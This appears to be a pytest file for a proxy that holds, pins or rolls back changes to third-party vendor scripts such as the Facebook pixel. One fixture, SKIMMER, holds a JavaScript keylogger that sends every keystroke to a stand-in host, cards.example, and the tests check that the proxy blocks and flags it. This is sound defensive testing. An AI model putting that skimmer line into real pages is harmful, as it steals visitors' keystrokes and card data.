"""What becomes of a vendor's change, over a whole edge and a real vendor's host on loopback."""

from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from firsthand.edge.scripts import FOREVER, SHORT
from firsthand.edge.shelf import packed
from firsthand.rules.custody import Policy, ScriptPolicy, Standing
from firsthand.rules.scriptjudge import judge_of
from firsthand.rules.site import Site
from firsthand.store.custody import By, ScriptEntry
from firsthand.store.sqlite.custody import open_custody
from tests.edge.test_scripts import FBEVENTS, HASH, Place, edge_before
from tests.edge.vendor_stand_in import GOOD, Vendor, reply, torn, vendor
from tests.samples import NOW, PIXEL, shop

ADDRESS = FBEVENTS[1:]
HARMLESS = GOOD + b"window.fbq.version='2.9.249';"
SKIMMER = GOOD + (
    b"document.addEventListener('keydown',function(e){fetch('https://cards.example/'+e.key)});"
)
BY = By("jane", "looked at it", NOW + 1)
CONFIG = f"/connect.facebook.net/signals/config/{PIXEL}?v=2.9.%s"


def under(policy: Policy, pin: str = "") -> Site:
    """Return the shop with a policy, and the hash of its one pinned script."""
    named = {ADDRESS: pin} if pin else {}
    return replace(shop(), scripts=ScriptPolicy(policy, pins=named))


@pytest.fixture
async def here() -> AsyncIterator[Vendor]:
    async with vendor() as running:
        yield running


async def live(place: Place, target: str = FBEVENTS) -> bytes:
    return (await place.get(f"{target}{'&' if '?' in target else '?'}fh=live")).body


async def serves(place: Place, body: bytes, target: str = FBEVENTS) -> None:
    """Have the vendor serve ``body`` and the edge ask for it."""
    place.vendor.answer = reply(body)
    await place.supply.refresh(place.supply._known[target[1:]])


async def entry_of(place: Place, target: str = FBEVENTS) -> ScriptEntry:
    entry = await place.custody.entry(target[1:])
    assert entry is not None
    return entry


async def test_the_first_version_is_trusted_and_said_to_be(here: Vendor, tmp_path: Path) -> None:
    for number, policy in enumerate((Policy.AUTO, Policy.HOLD)):
        async with edge_before(here, tmp_path / str(number), under(policy)) as place:
            assert await live(place) == GOOD
            assert (await entry_of(place)).versions[0].standing is Standing.FIRST


async def test_auto_serves_what_gives_no_alarm_and_holds_what_does(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place:
        first = await place.get(FBEVENTS)
        await serves(place, HARMLESS)
        assert await live(place) == HARMLESS
        await serves(place, SKIMMER)
        assert await live(place) == HARMLESS
        loader = await place.get(FBEVENTS)
        assert packed(HARMLESS).hash.encode() in loader.body
        assert loader.headers["etag"] != first.headers["etag"]
        held = await place.get(f"{FBEVENTS}?fh={packed(SKIMMER).hash}")
        assert held.body == HARMLESS, "a held version is not to be had by its hash either"
        assert f"Cache-Control: {held.headers['cache-control']}\r\n" == SHORT
        assert "script_held_meta" in place.wire.kept.reasons()
        newest = (await entry_of(place)).versions[0]
        assert newest.standing is Standing.HELD
        said = [finding.text for finding in newest.findings]
        assert "names a host that is not the vendor's: cards.example" in said
        assert "watches the keyboard (keydown)" in said
        await serves(place, HARMLESS)
        assert await live(place) == HARMLESS


async def test_hold_serves_the_approved_one_until_somebody_decides(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path, under(Policy.HOLD)) as place:
        assert await live(place) == GOOD
        await serves(place, HARMLESS)
        assert await live(place) == GOOD
        async with open_custody(tmp_path, judge_of(shop())) as elsewhere:
            assert not await elsewhere.approve(ADDRESS, packed(HARMLESS).hash, BY)
        await place.supply.look()
        assert await live(place) == HARMLESS, "another process decided"
        await serves(place, SKIMMER)
        assert await live(place) == HARMLESS


async def test_pin_serves_one_hash_and_nothing_else(here: Vendor, tmp_path: Path) -> None:
    pinned = under(Policy.PIN, packed(HARMLESS).digest)
    async with edge_before(here, tmp_path, pinned) as place:
        for _ in range(2):
            assert (await place.get(FBEVENTS)).status == 404, "another version was served"
        assert len(here.asked) == 1
        assert "script_missing" in place.wire.kept.reasons()
        assert "script_held_meta" in place.wire.kept.reasons()
    here.answer = reply(HARMLESS)
    async with edge_before(here, tmp_path, pinned) as place:
        assert await live(place) == HARMLESS
        await serves(place, GOOD)
        assert await live(place) == HARMLESS
        assert (await place.get(f"{FBEVENTS}?fh={HASH}")).body == HARMLESS
        refused = await place.custody.approve(ADDRESS, HASH, BY)
        assert "scripts.pins" in refused
    async with edge_before(here, tmp_path, under(Policy.AUTO)) as place:
        assert await live(place) == HARMLESS, "what was pinned stays when the pin goes"


async def test_a_roll_back_holds_until_the_vendor_serves_something_new(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place:
        await place.get(FBEVENTS)
        await serves(place, HARMLESS)
        async with open_custody(tmp_path, judge_of(shop())) as elsewhere:
            assert not await elsewhere.roll_back(ADDRESS, "", BY)
        await place.supply.look()
        assert await live(place) == GOOD
        gone = await place.get(f"{FBEVENTS}?fh={packed(HARMLESS).hash}")
        assert (gone.body, "immutable" in gone.headers["cache-control"]) == (GOOD, False)
        await serves(place, HARMLESS)
        assert await live(place) == GOOD, "the vendor still serves what was rejected"
        await serves(place, HARMLESS + b"1;")
        assert await live(place) == HARMLESS + b"1;"


async def test_versions_are_found_after_a_restart_and_by_another_worker(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place, edge_before(here, tmp_path) as other:
        await place.get(FBEVENTS)
        await other.get(FBEVENTS)
        await serves(place, HARMLESS)
        got = await other.get(f"{FBEVENTS}?fh={packed(HARMLESS).hash}")
        assert got.body == HARMLESS
        assert f"Cache-Control: {got.headers['cache-control']}\r\n" == FOREVER
        assert await live(other) == HARMLESS
    here.answer = reply(status=500)
    async with edge_before(here, tmp_path) as restarted:
        for digest, body in ((HASH, GOOD), (packed(HARMLESS).hash, HARMLESS)):
            got = await restarted.get(f"{FBEVENTS}?fh={digest}")
            assert (got.status, got.body) == (200, body)
            assert f"Cache-Control: {got.headers['cache-control']}\r\n" == FOREVER


async def test_workers_that_fetch_one_change_at_once_come_to_one_decision(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place, edge_before(here, tmp_path) as other:
        for each in (place, other):
            await each.get(FBEVENTS)
        for each in (place, other):
            await serves(each, SKIMMER)
        assert await live(place) == await live(other) == GOOD
        assert len((await entry_of(place)).versions) == 2
        assert [line.what for line in await place.custody.log()] == ["first", "held"]


async def test_a_file_whose_address_changes_is_compared_with_those_before(
    here: Vendor, tmp_path: Path
) -> None:
    mark = b"fbq.configLoaded=1;"
    async with edge_before(here, tmp_path) as place:
        here.answer = reply(GOOD + mark)
        assert (await place.get(CONFIG % "248")).status == 200
        here.answer = reply(SKIMMER + mark)
        assert (await place.get(CONFIG % "249")).status == 404, "a new name is no new trust"
        here.answer = reply(HARMLESS + mark)
        assert (await place.get(CONFIG % "250")).status == 200


async def test_a_version_that_did_not_change_is_not_sent_again(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place:
        here.answer = reply(GOOD, 'ETag: "v1"')
        await place.get(FBEVENTS)
        here.answer = torn(b"", 'ETag: "v1"', status=304)
        await place.supply.refresh(place.supply._known[ADDRESS])
        assert 'If-None-Match: "v1"' in here.asked[-1]
        assert await live(place) == GOOD
        assert not (await entry_of(place)).trouble


async def test_trouble_is_shown_from_its_first_day_until_it_ends(
    here: Vendor, tmp_path: Path
) -> None:
    async with edge_before(here, tmp_path) as place:
        await place.get(FBEVENTS)
        await serves(place, GOOD + b"function(){")
        entry = await entry_of(place)
        assert entry.trouble.startswith("does not parse (line 1, column ")
        assert await live(place) == GOOD
        here.answer = reply(status=500)
        await place.supply.refresh(place.supply._known[ADDRESS])
        later = await entry_of(place)
        assert (later.trouble, later.trouble_since) == ("status 500", entry.trouble_since)
        await serves(place, GOOD)
        assert not (await entry_of(place)).trouble
